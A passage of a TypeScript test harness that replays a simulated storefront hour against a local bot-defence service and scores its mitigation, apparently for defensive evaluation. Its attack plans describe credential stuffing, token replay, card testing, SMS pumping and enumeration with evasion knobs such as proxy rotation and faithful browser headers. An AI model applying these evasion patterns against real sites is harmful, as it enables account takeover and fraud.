 * browser users sign in (their device cookie known) and shop, app users refresh their token
 * every five minutes from whichever exit they are on.
 */
const vpnUsers: AttackPlan = (random, shop, out, population, knobs) => {
  everydayFlows(random, shop, out, population);
  for (const person of morePeople(random, shop, out, knobs.per ?? 20, { mix: PEOPLE, returning: 1 })) {
    const start = int(random, 0, 20 * MINUTE);
    const end = start + int(random, 20, 50) * MINUTE;
    let exitUntil = start;
    const hop = (visitor: Visitor) => {
      if (visitor.t < exitUntil) return;
      visitor.ip = pick(random, VPN_EXITS);
      exitUntil = visitor.t + int(random, 2, 8) * MINUTE;
    };
    if (person.refreshToken) {
      const app = new Visitor(random, out, "legit", VPN_EXITS[0]!, person.client, start);
      app.jar.set("did", person.deviceId);
      while (app.t < end) {
        hop(app);
        const lastRefresh = refresh(app, person, { status: 200 }).t;
        for (let k = int(random, 1, 4); k > 0; k--) app.wait(int(random, 5_000, 40_000)).send("xhr", "GET", `/api/v1/products/${popularProduct(random, shop)}`);
        // The next refresh when the five-minute access token is about to run out.
        app.t = Math.max(app.t, lastRefresh + 5 * MINUTE - int(random, 0, 50_000));
      }
      continue;
    }
    const visitor = signedInVisit(random, shop, out, person, pick(random, VPN_EXITS), start);
    while (visitor.t < end) {
      hop(visitor);
      visitor.wait(int(random, 30_000, 4 * MINUTE)).browse(shop);
    }
  }
};

/**
 * Uptime monitors: UptimeRobot's HEAD of the home page and Pingdom's search and product checks
 * every minute, rotating their probe locations, and a synthetic browser check every five
 * minutes that signs in a test account from a fresh browser (no cookies) in one of three clouds.
 */
const uptimeMonitor: AttackPlan = (random, shop, out, population) => {
  everydayFlows(random, shop, out, population);
  const uptimeRobot: Client = { engine: "curl", userAgent: "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", language: "" };
  const pingdom: Client = { engine: "curl", userAgent: "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", language: "" };
  const watched = shop.products[0]!;
  for (let t = int(random, 0, 30_000); t < HOUR; t += MINUTE + int(random, -2_000, 2_000)) {
    new Visitor(random, out, "legit", pick(random, ["69.162.124.231", "63.143.42.250", "216.144.250.150", "208.115.199.25"]), uptimeRobot, t).send("navigate", "HEAD", "/");
    const check = new Visitor(random, out, "legit", pick(random, ["178.255.152.2", "185.180.12.65", "43.229.84.12"]), pingdom, t + int(random, 1_000, 20_000));
    check.send("navigate", "GET", "/api/v1/search?q=test");
    check.wait(int(random, 200, 900)).send("navigate", "GET", `/api/v1/products/${watched}`);
  }
  const [tester] = morePeople(random, shop, out, 1, { mix: BROWSERS, returning: 1 });
  const synthetic = chromium(random, { version: 131 });
  synthetic.userAgent += " DatadogSynthetics";
  for (let t = int(random, 0, 60_000); t < HOUR; t += 5 * MINUTE) {
    const run = new Visitor(random, out, "legit", pick(random, ["3.18.112.44", "34.89.201.7", "52.59.77.130"]), synthetic, t);
    run.page("/login");
    run.wait(int(random, 800, 2_000)).login(tester!.account.username, tester!.account.password, { status: 200, rightPassword: true, responseHeaders: { "x-auth-result": "ok" } });
  }
};

const PLANS: Record<string, AttackPlan> = {
  stuffing, headless, "low-and-slow": lowAndSlow, spray, "token-replay": tokenReplay, scraping, scan,
  "credential-check": credentialCheck, rotation, enumeration, "human-scraping": humanScraping, "login-burst": stuffing,
  "marketing-spike": marketingSpike, "office-nat": officeNat, "carrier-nat": carrierNat, "signing-in": signingIn, "app-only": appOnly, crawlers,
  "card-testing": cardTesting, "message-pumping": messagePumping, "mobile-stuffing": mobileStuffing, "gift-cards": giftCards, "cart-hoarding": cartHoarding,
  "browsing-stuffing": browsingStuffing, "shop-flows": everydayFlows, "flash-sale": flashSale, "family-account": familyAccount, "vpn-user": vpnUsers, "uptime-monitor": uptimeMonitor,
};

/** The knob points: each family from its easiest to its most careful form. */
const POINTS: Point[] = [
  { family: "stuffing", name: "curl", knobs: { rate: 20, addresses: 2000, realism: "curl" }, describe: "20/min, 2000 proxies (~1 try each), curl" },
  { family: "stuffing", name: "chrome", knobs: { rate: 20, addresses: 400, realism: "chrome" }, describe: "20/min, 400 proxies (3 tries each), faithful Chrome headers, no cookies" },
  { family: "stuffing", name: "chrome-slow", knobs: { rate: 3, addresses: 1000, realism: "chrome" }, describe: "3/min, 1000 proxies, faithful Chrome headers" },
  { family: "headless", name: "default-ua", knobs: { rate: 30, addresses: 500, realism: "headless", per: 20 }, describe: "30/min, 20 logins per browser, HeadlessChrome UA" },
  { family: "headless", name: "stealth", knobs: { rate: 20, addresses: 500, realism: "chrome", per: 5 }, describe: "20/min, 5 logins per browser, Chrome UA" },
  { family: "headless", name: "stealth-browses", knobs: { rate: 6, addresses: 1000, realism: "chrome", per: 1, variant: "browses" }, describe: "6/min, 1 login per browser, views a product first" },
  { family: "low-and-slow", name: "chrome", knobs: { rate: 1, addresses: 30, realism: "chrome" }, describe: "1/min from 30 addresses (2/h each), Chrome headers" },
  { family: "low-and-slow", name: "page-first", knobs: { rate: 3, addresses: 300, realism: "chrome", variant: "page-first" }, describe: "3/min from 300 addresses, loads /login first (cookies)" },
  { family: "spray", name: "one-address", knobs: { rate: 10, addresses: 1, realism: "python" }, describe: "10/min from 1 address, python" },
  { family: "spray", name: "proxies", knobs: { rate: 40, addresses: 2000, realism: "chrome" }, describe: "40/min from 2000 proxies, Chrome headers" },
  { family: "token-replay", name: "curl-rotating", knobs: { rate: 10, addresses: 200, realism: "curl", per: 10 }, describe: "10 stolen tokens, 10 refreshes/min, rotating proxies, curl, no device cookie" },
  { family: "token-replay", name: "jar", knobs: { rate: 2, addresses: 10, realism: "chrome", per: 10, variant: "jar" }, describe: "10 stolen tokens + device cookie, app's headers, one address each, 5-min cadence" },
  { family: "token-replay", name: "jar-slow", knobs: { rate: 1, addresses: 20, realism: "chrome", per: 20, variant: "jar" }, describe: "20 stolen tokens + device cookie, app's headers, every 20 min" },
  { family: "scraping", name: "sequential", knobs: { rate: 60, addresses: 100, realism: "python", variant: "sequential" }, describe: "60/min over 100 proxies, python, ids in order (gaps 404)" },
  { family: "scraping", name: "chrome", knobs: { rate: 120, addresses: 500, realism: "chrome" }, describe: "120/min over 500 proxies, Chrome headers, sitemap ids shuffled" },
  { family: "scraping", name: "headless", knobs: { rate: 100, addresses: 300, realism: "headless" }, describe: "100/min over 300 proxies, HeadlessChrome with cookies, shuffled" },
  { family: "scan", name: "one-address", knobs: { rate: 30, addresses: 1, realism: "curl" }, describe: "30/min from 1 address, scanner UA" },
  { family: "scan", name: "proxies", knobs: { rate: 20, addresses: 400, realism: "chrome" }, describe: "20/min over 400 proxies, Chrome UA" },
  { family: "credential-check", name: "hits-30", knobs: { rate: 5, addresses: 300, realism: "chrome", per: 1, hitRate: 0.3 }, describe: "5/min, 30% right, 1 try per proxy, Chrome headers, no page" },
  { family: "credential-check", name: "hits-70-two-tries", knobs: { rate: 5, addresses: 150, realism: "chrome", per: 2, hitRate: 0.7 }, describe: "5/min, 70% right, 2 tries per proxy, Chrome headers, no page" },
  { family: "credential-check", name: "hits-50-page-first", knobs: { rate: 3, addresses: 180, realism: "chrome", per: 1, hitRate: 0.5, variant: "page-first" }, describe: "3/min, 50% right, 1 try per proxy, loads /login first (cookies)" },
  { family: "credential-check", name: "hits-70-page-slow", knobs: { rate: 1, addresses: 30, realism: "chrome", per: 2, hitRate: 0.7, variant: "page-first" }, describe: "1/min, 70% right, 2 tries per proxy, loads /login first" },
  { family: "rotation", name: "one-address-logins", knobs: { rate: 6, addresses: 1, realism: "chrome" }, describe: "combo list 6/min from 1 address, another browser's headers per request" },
  { family: "rotation", name: "few-addresses-logins", knobs: { rate: 6, addresses: 4, realism: "chrome" }, describe: "combo list 6/min from 4 addresses, another browser per request" },
  { family: "rotation", name: "few-addresses-scrape", knobs: { rate: 40, addresses: 3, realism: "chrome", variant: "scrape" }, describe: "product reads 40/min from 3 addresses, another browser per request" },
  { family: "enumeration", name: "orders-sequential-one", knobs: { rate: 20, addresses: 1, realism: "python", variant: "orders-sequential" }, describe: "/api/v1/orders/{id} in order, 20/min from 1 address, python (90% 404)" },
  { family: "enumeration", name: "orders-scattered-proxies", knobs: { rate: 20, addresses: 300, realism: "chrome", variant: "orders-scattered" }, describe: "/api/v1/orders/{id} scattered, 20/min over 300 proxies, Chrome headers" },
  { family: "enumeration", name: "coupons-sequential-proxies", knobs: { rate: 30, addresses: 300, realism: "chrome", variant: "coupons-sequential" }, describe: "/api/v1/coupons/SAVEnnnn in order, 30/min over 300 proxies (98% 404)" },
  { family: "enumeration", name: "coupons-scattered-one", knobs: { rate: 10, addresses: 1, realism: "script-ua", variant: "coupons-scattered" }, describe: "/api/v1/coupons/SAVEnnnn scattered, 10/min from 1 address, copied Chrome UA" },
  { family: "enumeration", name: "accounts-one", knobs: { rate: 10, addresses: 1, realism: "python", variant: "accounts" }, describe: "register probes (409 = has an account) 10/min from 1 address, python" },
  { family: "enumeration", name: "accounts-proxies", knobs: { rate: 10, addresses: 500, realism: "chrome", variant: "accounts" }, describe: "register probes 10/min over 500 proxies, Chrome headers" },
  { family: "human-scraping", name: "sessions", knobs: { rate: 0, addresses: 1000, realism: "chrome", per: 1000 }, describe: "1000 browser sessions over 1000 proxies, shell and pictures, cookies, 2–10 products each" },
  { family: "human-scraping", name: "no-pictures", knobs: { rate: 0, addresses: 2000, realism: "chrome", per: 2000, variant: "no-pictures" }, describe: "2000 sessions over 2000 proxies, pages and data, pictures blocked" },
  { family: "human-scraping", name: "slow", knobs: { rate: 0, addresses: 60, realism: "chrome", per: 60, variant: "slow" }, describe: "60 sessions over 60 proxies, 10–60 s per product" },
  { family: "login-burst", name: "start-0", knobs: { rate: 60, addresses: 600, realism: "chrome", start: 0, minutes: 10 }, describe: "combo list 60/min for 10 min from minute 0, 600 proxies, Chrome headers" },
  { family: "login-burst", name: "start-20", knobs: { rate: 60, addresses: 600, realism: "chrome", start: 20, minutes: 10 }, describe: "the same from minute 20" },
  { family: "login-burst", name: "start-50", knobs: { rate: 60, addresses: 600, realism: "chrome", start: 50, minutes: 10 }, describe: "the same from minute 50" },
  { family: "login-burst", name: "short", knobs: { rate: 120, addresses: 240, realism: "chrome", start: 33, minutes: 2 }, describe: "120/min for 2 min from minute 33, 240 proxies" },
  { family: "login-burst", name: "very-short", knobs: { rate: 300, addresses: 150, realism: "chrome", start: 41, minutes: 0.5 }, describe: "300/min for 30 s from minute 41, 150 proxies" },
  { family: "marketing-spike", name: "3x", knobs: { rate: 0, addresses: 0, realism: "chrome", per: 3 }, describe: "benign: 3× arrivals minutes 20–35, 60% signing up and in" },
  { family: "marketing-spike", name: "5x", knobs: { rate: 0, addresses: 0, realism: "chrome", per: 5 }, describe: "benign: 5× arrivals minutes 20–35" },
  { family: "office-nat", name: "50-people", knobs: { rate: 0, addresses: 1, realism: "chrome", per: 50 }, describe: "benign: 50 colleagues behind one NAT, one Chrome build" },
  { family: "carrier-nat", name: "200-phones", knobs: { rate: 0, addresses: 1, realism: "chrome", per: 200 }, describe: "benign: 200 phones behind one carrier address" },
  { family: "signing-in", name: "autofill", knobs: { rate: 0, addresses: 0, realism: "chrome", per: 100, variant: "autofill" }, describe: "benign: 100 password-manager sign-ins (25% stale first)" },
  { family: "signing-in", name: "typos", knobs: { rate: 0, addresses: 0, realism: "chrome", per: 100, variant: "typos" }, describe: "benign: 100 people mistyping 1–3 times (10% give up)" },
  { family: "app-only", name: "100-users", knobs: { rate: 0, addresses: 0, realism: "chrome", per: 100 }, describe: "benign: 100 app users, half fresh installs" },
  { family: "crawlers", name: "verified-and-fake", knobs: { rate: 0, addresses: 5, realism: "chrome" }, describe: "Googlebot smartphone + Bingbot (benign); fake Googlebot from 5 hosting addresses (attack)" },
  { family: "card-testing", name: "one-address", knobs: { rate: 8, addresses: 1, realism: "python" }, describe: "small payments 8/min from 1 address, python, no cart (6% live cards)" },
  { family: "card-testing", name: "proxies", knobs: { rate: 8, addresses: 500, realism: "chrome" }, describe: "8/min over 500 proxies, Chrome headers, no page, no cookies" },
  { family: "card-testing", name: "sessions", knobs: { rate: 4, addresses: 400, realism: "chrome", per: 3, warmup: "browse" }, describe: "4/min, a browser session per proxy (home, products, cart, checkout page), 3 cards each" },
  { family: "message-pumping", name: "otp-one-address", knobs: { rate: 15, addresses: 1, realism: "python" }, describe: "SMS codes to premium-range numbers 15/min from 1 address, python" },
  { family: "message-pumping", name: "otp-proxies", knobs: { rate: 10, addresses: 1000, realism: "chrome" }, describe: "SMS codes 10/min over 1000 proxies, Chrome headers, no page" },
  { family: "message-pumping", name: "otp-sessions", knobs: { rate: 4, addresses: 500, realism: "chrome", per: 2, warmup: "page" }, describe: "SMS codes 4/min, each proxy loads the verify page (cookies), 2 numbers each" },
  { family: "message-pumping", name: "reset-one-address", knobs: { rate: 20, addresses: 1, realism: "python", variant: "reset" }, describe: "password-reset e-mails 20/min from 1 address, python" },
  { family: "message-pumping", name: "reset-proxies", knobs: { rate: 10, addresses: 600, realism: "chrome", warmup: "page", variant: "reset" }, describe: "password-reset e-mails 10/min over 600 proxies, loads the reset page first" },
  { family: "mobile-stuffing", name: "app-proxies", knobs: { rate: 10, addresses: 1000, realism: "app" }, describe: "OAuth password grant 10/min over 1000 proxies, the app's headers, no device cookie" },
  { family: "mobile-stuffing", name: "app-device-cookie", knobs: { rate: 6, addresses: 500, realism: "app", per: 2, variant: "device-cookie" }, describe: "6/min over 500 proxies, the app's headers and a made-up device cookie, 2 tries each" },
  { family: "mobile-stuffing", name: "app-slow", knobs: { rate: 1, addresses: 60, realism: "app", variant: "device-cookie" }, describe: "1/min over 60 proxies, the app's headers and a made-up device cookie" },
  { family: "gift-cards", name: "one-address", knobs: { rate: 20, addresses: 1, realism: "python", variant: "sequential" }, describe: "balance checks 20/min from 1 address, python, a batch's serials in order (1 in 40 issued)" },
  { family: "gift-cards", name: "proxies", knobs: { rate: 20, addresses: 600, realism: "chrome" }, describe: "20/min over 600 proxies, Chrome headers, serials at random" },
  { family: "gift-cards", name: "sessions", knobs: { rate: 6, addresses: 300, realism: "chrome", per: 3, warmup: "page", variant: "sequential" }, describe: "6/min, each proxy loads the gift-card page (cookies), 3 serials in order each" },
  { family: "cart-hoarding", name: "bare", knobs: { rate: 10, addresses: 20, realism: "python" }, describe: "limited product to cart (2–5 each) 10/min from 20 addresses, python" },
  { family: "cart-hoarding", name: "sessions", knobs: { rate: 6, addresses: 600, realism: "chrome", warmup: "browse" }, describe: "6/min, a new browser session per proxy that looks around first, cookies" },
  { family: "cart-hoarding", name: "drop-20", knobs: { rate: 60, addresses: 300, realism: "chrome", warmup: "page", start: 20, minutes: 5 }, describe: "60/min for 5 min from minute 20, 300 proxies, product page first" },
  { family: "browsing-stuffing", name: "browse-first", knobs: { rate: 6, addresses: 600, realism: "chrome", warmup: "browse" }, describe: "combo list 6/min, a browser session per proxy that looks around (pictures) before its login" },
  { family: "browsing-stuffing", name: "interleaved", knobs: { rate: 6, addresses: 300, realism: "chrome", per: 3, warmup: "interleave" }, describe: "6/min, 3 logins per session, browsing before each" },
  { family: "browsing-stuffing", name: "interleaved-slow", knobs: { rate: 2, addresses: 100, realism: "chrome", per: 3, warmup: "interleave" }, describe: "2/min over 100 proxies, 3 logins per session, browsing before each" },
  { family: "shop-flows", name: "usual", knobs: { rate: 0, addresses: 0, realism: "chrome" }, describe: "benign: the shop's usual purchases, phone codes, resets, gift-card checks" },
  { family: "flash-sale", name: "5x", knobs: { rate: 0, addresses: 0, realism: "chrome", per: 5 }, describe: "benign: 5× arrivals minutes 30–45 for a limited product, 70% to cart, half of them pay" },
  { family: "family-account", name: "two-homes", knobs: { rate: 0, addresses: 0, realism: "chrome", per: 15 }, describe: "benign: 15 accounts each shared by two homes (other ISP, other browser)" },
  { family: "vpn-user", name: "rotating-exit", knobs: { rate: 0, addresses: 24, realism: "chrome", per: 20 }, describe: "benign: 20 people on a VPN whose exit changes every 2–8 min, browsers and app" },
  { family: "uptime-monitor", name: "three-services", knobs: { rate: 0, addresses: 10, realism: "chrome" }, describe: "benign: UptimeRobot and Pingdom every minute, a synthetic sign-in every 5 min" },
];

// ---------------------------------------------------------------- playing it against Palisade

interface Score {
  family: string;
  point: string;
  seed: number;
  attack: number;
  attackMitigated: number;
  targets: number;
  targetsMitigated: number;
  takeovers: number;
  legit: number;
  legitFriction: number;
  legitActions: Record<string, number>;
  /** Distinct resources the attack was handed (product data, orders, coupons, accounts' existence); undefined where none applies. */
  idsScraped?: number;
  /** What the allowed attack requests cost the shop (declined cards, messages sent, units held). */
  harm: Partial<Record<Harm, number>>;
  errors: number;
}

const root = fileURLToPath(new URL("../", import.meta.url));

async function play(point: Point | undefined, seed: number, legitSessions: number, options: { decisions?: string[]; planOnly?: boolean }): Promise<Score | undefined> {
  const decisions = options.planOnly ? undefined : options.decisions;
  const random = seeded(seed * 7919 + (point ? POINTS.indexOf(point) + 1 : 0) * 104729);
  const shop = openShop(seeded(seed));
  const out: Planned[] = [];
  // The same people on every point of a seed: the legitimate hour differs only by the attack beside it.
  const population = legitimate(seeded(seed + 1), shop, out, legitSessions);
  if (point) {
    const before = out.length;
    PLANS[point.family]!(random, shop, out, population, point.knobs);
    // Plans shared by families (a burst is stuffing) label their attack requests with the family played.
    for (const request of out.slice(before)) if (request.label !== "legit" && request.label !== "history") request.label = point.family;
  }
  out.sort((a, b) => a.t - b.t);
  if (options.planOnly) {
    // The traffic and its labels, for reading or for another judge; nothing is played.
    const counts: Record<string, number> = {};
    for (const request of out) counts[request.label] = (counts[request.label] ?? 0) + 1;
    process.stderr.write(`${point?.family ?? "none"}/${point?.name ?? "legit"} seed ${seed}: ${JSON.stringify(counts)}\n`);
    options.decisions?.push(...out.map((request) => JSON.stringify(request)));
    return undefined;
  }

  const settings = resolveSettings(
    { grpcPort: 0, adminPort: 0, challengePort: 0, grpcHost: "127.0.0.1", adminHost: "127.0.0.1", challengeHost: "127.0.0.1", pseudonymKey: "independent-traffic-0123456789abcdef0123", trustEventTime: true, warmUpDecisions: 0 },
    {},
    { policy: `${root}examples/policy.yaml` },
  );
  const app = await startApp(settings, { logger: createLogger({ level: "silent" }), policyReloadOffThread: false, ruleBudgetMs: 10_000 });
  const authz = envoyAuthzClient(`127.0.0.1:${app.grpcPort}`);
  const logs = envoyAccessLogClient(`127.0.0.1:${app.grpcPort}`);
  const score: Score = { family: point?.family ?? "none", point: point?.name ?? "legit only", seed, attack: 0, attackMitigated: 0, targets: 0, targetsMitigated: 0, takeovers: 0, legit: 0, legitFriction: 0, legitActions: {}, harm: {}, errors: 0 };
  const takenOver = new Set<string>();
  const scraped = new Set<string>();
  const base = Math.floor((Date.now() - 2 * HOUR) / MINUTE) * MINUTE;
  let pending: LoggedRequest[] = [];
  try {
    for (const [n, request] of out.entries()) {
      const timeMs = base + Math.round(request.t);
      if (pending.length && (timeMs - pending[0]!.timeMs! >= 1_000 || pending.length >= 200)) {
        await logs.send(pending);
        pending = [];
      }
      const requestId = `${seed}-${n}`;
      const check = checkRequest({ method: request.method, path: request.path, ip: request.ip, headers: { ":authority": "shop.example", "x-request-id": requestId, "x-forwarded-proto": "https", ...request.headers }, body: request.body, timeMs, requestId }) as { attributes: { request: { http: { protocol: string } } } };
      // Browsers and apps speak HTTP/2 to the edge; scripts mostly HTTP/1.1.
      if (request.headers["sec-fetch-mode"] || request.headers["x-app-version"]) check.attributes.request.http.protocol = "HTTP/2";
      let action = "allow";
      let response;
      try {
        response = await authz.check({ rawRequest: check });
        action = String(metadata(response).action ?? (response.denied_response ? "deny" : "allow"));
      } catch {
        score.errors++; // Envoy's failure_mode_allow lets it through
      }
      const denied = action !== "allow" && action !== "step_up";
      // Under step-up the application asks for the second factor: people pass it, attackers do not.
      const status = denied ? deniedStatus(action) : action === "step_up" && request.rightPassword && request.label !== "legit" && request.label !== "history" ? 401 : request.status;
      pending.push({ requestId, method: request.method, path: request.path.split("?")[0]!, ip: request.ip, status, timeMs, responseHeaders: denied ? {} : request.responseHeaders, authzMetadata: response?.dynamic_metadata, deniedByAuthz: denied });
      if (request.label === "history") continue;
      const mitigated = action !== "allow";
      if (request.label === "legit") {
        score.legit++;
        if (mitigated) {
          score.legitFriction++;
          score.legitActions[action] = (score.legitActions[action] ?? 0) + 1;
          decisions?.push(JSON.stringify({ label: "legit", point: point?.name, action, t: request.t, ip: request.ip, method: request.method, path: request.path, ua: request.headers["user-agent"], reasons: metadata(response!).reasons, rule: metadata(response!).rule }));
        }
        continue;
      }
      score.attack++;
      if (mitigated) score.attackMitigated++;
      if (request.target) {
        score.targets++;
        if (mitigated) score.targetsMitigated++;
      }
      if (request.stolen && action === "allow") takenOver.add(request.stolen);
      if (request.resource && action === "allow") scraped.add(request.resource);
      if (request.harm && action === "allow") score.harm[request.harm] = (score.harm[request.harm] ?? 0) + (request.units ?? 1);
      if (decisions && request.target) decisions.push(JSON.stringify({ label: request.label, point: point?.name, action, t: request.t, ip: request.ip, path: request.path, stolen: request.stolen, reasons: response ? metadata(response).reasons : undefined, rule: response ? metadata(response).rule : undefined }));
    }
    if (pending.length) await logs.send(pending);
  } finally {
    authz.close();
    logs.close();
    await app.stop();
  }
  score.takeovers = takenOver.size;
  if (out.some((request) => request.resource && request.label !== "legit")) score.idsScraped = scraped.size;
  return score;
}

function deniedStatus(action: string): number {
  return action === "challenge" ? 401 : action === "throttle" ? 429 : 403;
}

const percent = (part: number, whole: number) => (whole ? `${((100 * part) / whole).toFixed(1)}%` : "–");

const USAGE = `Usage: npx tsx scripts/independent-traffic.ts [options]

Plays a storefront's hour (legitimate people and one attack or confounder per point) against a
live Palisade with the example policy and prints a markdown table of what it let through.

  --seeds 1,2          seeds to play (default 1,2); every point of a seed has the same people
  --only a,b/c         families or family/point to play (add \`none\` for the legitimate hour alone)
  --sessions N         legitimate browsing sessions in the hour (default 120)
  --json FILE          write the scores as JSON
  --decisions FILE     write each attack target's decision and each legitimate request with friction
  --plan               write the planned requests (to --decisions) instead of playing them
  -h, --help           this help`;

async function main(): Promise<void> {
  const { values } = parseArgs({ options: { seeds: { type: "string", default: "1,2" }, only: { type: "string" }, sessions: { type: "string", default: "120" }, json: { type: "string" }, decisions: { type: "string" }, plan: { type: "boolean", default: false }, help: { type: "boolean", short: "h", default: false } } });
  if (values.help) {
    process.stdout.write(`${USAGE}\n\nFamilies and their points (--only family or family/point; \`none\` is the legitimate hour alone):\n${POINTS.map((point) => `  ${`${point.family}/${point.name}`.padEnd(42)}${point.describe}`).join("\n")}\n`);
    return;
  }
  const seeds = values.seeds.split(",").map(Number);
  const families = values.only?.split(",");
  const points = POINTS.filter((point) => !families || families.includes(point.family) || families.includes(`${point.family}/${point.name}`));
  const decisions: string[] | undefined = values.decisions ? [] : undefined;
  const scores: Score[] = [];
  const options = { decisions, planOnly: values.plan };
  for (const seed of seeds) {
    for (const point of families && !families.includes("none") ? points : [undefined, ...points]) {
      const score = await play(point, seed, Number(values.sessions), options);
      if (score) scores.push(score);
      process.stderr.write(`${point?.family ?? "none"}/${point?.name ?? "legit only"} seed ${seed} done\n`);
    }
  }
  if (values.decisions && decisions) writeFileSync(values.decisions, `${decisions.join("\n")}\n`);
  if (values.plan) return;
  const lines = [
    "| family | point | knobs | seed | attack requests | mitigated | targets mitigated | takeovers | ids scraped | harm let through | legit requests | legit friction |",
    "|---|---|---|---|---|---|---|---|---|---|---|---|",
    ...scores.map((s) => {
      const knobs = POINTS.find((p) => p.family === s.family && p.name === s.point)?.describe ?? "no attack";
      return `| ${s.family} | ${s.point} | ${knobs} | ${s.seed} | ${s.attack} | ${percent(s.attackMitigated, s.attack)} | ${percent(s.targetsMitigated, s.targets)} of ${s.targets} | ${s.takeovers} | ${s.idsScraped ?? "–"} | ${Object.entries(s.harm).map(([harm, count]) => `${count} ${harm}`).join(", ") || "–"} | ${s.legit} | ${percent(s.legitFriction, s.legit)}${s.legitFriction ? ` (${Object.entries(s.legitActions).map(([a, c]) => `${a} ${c}`).join(", ")})` : ""} |`;
    }),
  ];
  process.stdout.write(`${lines.join("\n")}\n`);
  const errors = scores.reduce((sum, score) => sum + score.errors, 0);
  if (errors) process.stderr.write(`${errors} Checks failed and were let through, as Envoy's failure_mode_allow would\n`);
  if (values.json) writeFileSync(values.json, `${JSON.stringify(scores, null, 2)}\n`);
}

await main();
